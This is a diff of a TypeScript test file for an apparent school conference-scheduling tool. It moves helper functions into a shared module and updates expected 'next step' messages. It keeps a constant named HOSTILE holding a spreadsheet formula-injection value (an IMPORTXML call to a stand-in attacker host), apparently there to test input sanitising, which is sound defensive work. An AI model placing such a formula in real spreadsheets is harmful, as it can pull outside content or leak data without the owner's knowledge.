@@ -4,6 +4,7 @@
  */
 import { LockStore } from '../../emulator/lock';
 import { openSchool } from '../../preview/school';
+import { ok, props, run } from './calls';
 import type { JobProgress, Overview, Result, Settings } from '../../src/shared/api';
 
 type School = ReturnType<typeof openSchool>;
@@ -20,24 +21,6 @@ const Q = {
   code: 'Conference code',
 };
 const HOSTILE = '=IMPORTXML("https://evil.example","//a")';
-
-function ok<T>(result: unknown): T {
-  const r = result as Result<T>;
-  if (!r.ok) throw new Error(`expected ok, got: ${r.error.message}`);
-  return r.value;
-}
-
-function run(s: School, job: string): JobProgress {
-  for (let i = 0; i < 20; i++) {
-    const p = ok<JobProgress>(s.bundle.callFromClient('runJob', [job]));
-    if (p.done) return p;
-  }
-  throw new Error(`${job} never finished`);
-}
-
-function props(s: School): Map<string, string> {
-  return s.emulator.kv.properties.get(`document:${s.emulator.spreadsheet.id}`) ?? new Map();
-}
 
 interface FormsState {
   availability: { formId: string; linkTemplate: string; choices: { label: string; date: string; start: number; end: number }[] };
@@ -526,8 +509,10 @@ describe('the Questionnaire step', () => {
   it('the Conference days step points to the availability form (made in the Questionnaire step) before the schedule is built', () => {
     const s = school();
     const days = () => ok<Overview>(s.bundle.callFromClient('getOverview', [])).steps.find((x) => x.id === 'days')!;
-    expect(days().next).toContain('create the family forms (step 7, Questionnaire)');
+    expect(days().next).toContain('create the family forms and ask the families (step 7, Questionnaire)');
     run(s, 'forms');
+    expect(days().next).toBe('Build the schedule next, or first ask the families when they can come (step 7, Questionnaire) and give them a few days.');
+    run(s, 'ask');
     expect(days().next).toBe('Build the schedule next.');
   });
 
